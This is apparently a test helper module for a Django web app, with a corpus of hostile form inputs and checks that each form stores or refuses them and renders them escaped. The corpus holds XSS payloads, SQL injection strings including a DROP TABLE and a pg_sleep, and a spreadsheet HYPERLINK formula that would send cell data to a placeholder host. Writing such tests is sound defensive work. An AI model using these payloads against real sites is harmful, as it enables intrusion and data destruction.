"""Hostile input: a corpus of XSS and injection strings, and one check that every form must pass.

How a form joins: in its app's tests, parametrize over CORPUS and call `check_hostile_value` with the
form's URL, the other valid fields, the field under attack, how to read the stored value back, and the
page that shows it. In browser tests, fill MARKUP values and rely on the `page` fixture, which fails
on any JavaScript dialog.

The corpus avoids leading and trailing whitespace on purpose: Django's CharField strips it, which is
intended, not silent loss.
"""

import re
import unicodedata
from dataclasses import dataclass
from html.parser import HTMLParser

from django.utils.html import escape


@dataclass(frozen=True)
class Hostile:
    name: str
    value: str
    markup: bool = False  # would run script if rendered unescaped


CORPUS = [
    Hostile("script-tag", "<script>alert('xss-1')</script>", markup=True),
    Hostile("img-onerror", "<img src=x onerror=\"alert('xss-2')\">", markup=True),
    Hostile("svg-onload", "<svg/onload=alert('xss-3')>", markup=True),
    Hostile("attribute-breakout", '" autofocus onfocus="alert(\'xss-4\')" x="', markup=True),
    Hostile("single-quote-breakout", "' autofocus onfocus='alert(`xss-5`)' x='", markup=True),
    Hostile("javascript-link", "javascript:alert('xss-6')", markup=True),
    Hostile("textarea-breakout", "</textarea></title><script>alert('xss-7')</script>", markup=True),
    Hostile("iframe-srcdoc", "<iframe srcdoc=\"<script>alert('xss-8')</script>\"></iframe>", markup=True),
    Hostile("template-syntax", "{{ 7|add:7 }} {% now 'Y' %} ${7*7} #{7*7}"),
    Hostile("html-entities", "&lt;script&gt; &amp;amp; &#x3C;b&#x3E;"),
    Hostile("sql-quote", "x' OR '1'='1"),
    Hostile("sql-drop", "Robert'); DROP TABLE organisations_organisation;--"),
    Hostile("sql-sleep", "1; SELECT pg_sleep(5); --"),
    Hostile("spreadsheet-formula", '=HYPERLINK("http://example.invalid/?d="&A1;"Klicka här")'),
    Hostile("like-wildcards", "100% _under_ back\\slash"),
    Hostile("control-characters", "Nämnd\x07med\x1b[31mkontroll\x7ftecken"),
    Hostile("rtl-override", "Nämnd \u202egnp.exe\u202c slut"),
    Hostile("zero-width", "Näm\u200bnd\u200c med\u200d\ufeffosynligt"),
    Hostile("combining-and-emoji", "Ha\u0308ndelse 👩🏽‍💻 ﷽"),
    Hostile("line-breaks", "rad ett\nrad två\r\nrad tre"),
    Hostile("nul-byte", "Nämnd\x00efter"),
    # 10,199 characters: over most limits (refused with a form error), under a chapter body's (stored whole).
    Hostile("very-long", ("Lång text om förebyggande arbete. " * 300).strip()),
    # Word's manual line break, pasted: stored as the line break the writer meant.
    Hostile("word-vertical-tab", "rad ett\x0brad två"),
    # C0 controls no XLSX, DOCX or PDF can hold: refused with a message naming them.
    Hostile("c0-control", "Nämnd\x01\x1f\x0cslut"),
]
MARKUP = [h for h in CORPUS if h.markup]


def expected_stored(value: str) -> str:
    """What a form stores: `value` exactly, but Word's vertical tab is the line break it meant."""
    return value.replace("\x0b", "\n")


NUL_ERROR = "Null-tecken är inte tillåtna."

_INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)(?![^>]*application/json)", re.IGNORECASE)


def ids(corpus):
    return [h.name for h in corpus]


def form_errors(response) -> dict:
    """The bound form's errors from a rendered response (our views' `form`, or the admin's `adminform`)."""
    for context in response.context or []:
        if "adminform" in context:
            return dict(context["adminform"].form.errors)
        if "form" in context and hasattr(context["form"], "errors"):
            return dict(context["form"].errors)
    return {}


class _MarkupScanner(HTMLParser):
    """Collects what a browser would run: inline <script>, on…= attributes, javascript: links."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attrs):
        names = dict(attrs)
        if tag == "script" and "src" not in names and names.get("type") != "application/json":
            self.found.append("inline <script>")
        for name, value in attrs:
            if name.startswith("on"):
                self.found.append(f"event-handler attribute {name}= on <{tag}>")
            link = re.sub(r"[\s\x00-\x1f]", "", value or "").lower()
            if name in ("href", "src", "action", "formaction") and link.startswith("javascript:"):
                self.found.append(f"javascript: URL in {name}= on <{tag}>")
            if name == "srcdoc":
                self.found.append(f"srcdoc= on <{tag}>")

    handle_startendtag = handle_starttag


def injected_markup(html: str) -> list[str]:
    """What in `html` would run script: a parser's view, so escaped text inside attributes is not flagged."""
    scanner = _MarkupScanner()
    scanner.feed(html)
    scanner.close()
    return scanner.found


def shown_escaped(html: str, value: str) -> bool:
    """Every line of `value` appears escaped in `html` (templates may join lines with <br> or <p>)."""
    lines = [line for line in re.split(r"\r\n|\r|\n", value) if line]
    # Django's truncatechars composes characters (NFC): "a" + combining diaeresis becomes "ä", same look.
    return all(escape(line) in html or escape(unicodedata.normalize("NFC", line)) in html for line in lines)


def assert_rendered_safely(html: str, value: str, *, must_contain=True):
    """The value appears escaped, never raw where it could become markup, and adds no inline script."""
    if must_contain and "\x00" not in value:
        assert shown_escaped(html, value), "the value is not shown (or shown changed) on the page"
    found = injected_markup(html)
    assert not found, f"the page contains script that the template did not write: {found}"
    if any(c in value for c in "<>\"'"):
        assert value not in html, "the value appears unescaped in the HTML"
    assert not _INLINE_SCRIPT.search(html), "the page contains an inline <script>"
    assert 'href="javascript:' not in html.lower()


def check_hostile_value(client, *, url, data, field, value, stored=None, render_url=None, max_length=None):
    """POST `value` in `field` and check what a person would get. Returns "stored" or "refused".

    (a) it is stored exactly (`stored()` reads it back) or refused with a form error shown on the page,
        never silently truncated or altered, and never a server error;
    (b) the page that shows it (`render_url`, or the re-rendered form) contains it escaped and no
        inline script.
    """
    response = client.post(url, {**data, field: value})
    assert response.status_code < 500, f"server error {response.status_code}"
    html = response.content.decode()
    if response.status_code in (200, 400):
        errors = form_errors(response)
        assert errors, f"form neither saved nor reported an error (status {response.status_code})"
        shown = [str(message) for messages in errors.values() for message in messages]
        assert any(escape(message) in html for message in shown), "the error is not shown to the user"
        if "\x00" in value:
            assert NUL_ERROR in html, "a NUL byte must be refused with the Swedish message"
        if max_length is not None and len(value) > max_length:
            assert f"som mest {max_length} tecken" in html
        if stored is not None:
            assert stored() != value
        assert_rendered_safely(html, value, must_contain="\x00" not in value)
        return "refused"
    assert response.status_code in (301, 302, 303), response.status_code
    assert "\x00" not in value, "a NUL byte was accepted"
    if max_length is not None:
        assert len(value) <= max_length, "a value over the limit was accepted"
    expected = expected_stored(value)
    if stored is not None:
        assert stored() == expected, "the value was stored changed (truncated or normalised)"
    if render_url:
        assert_rendered_safely(client.get(render_url).content.decode(), expected)
    return "stored"
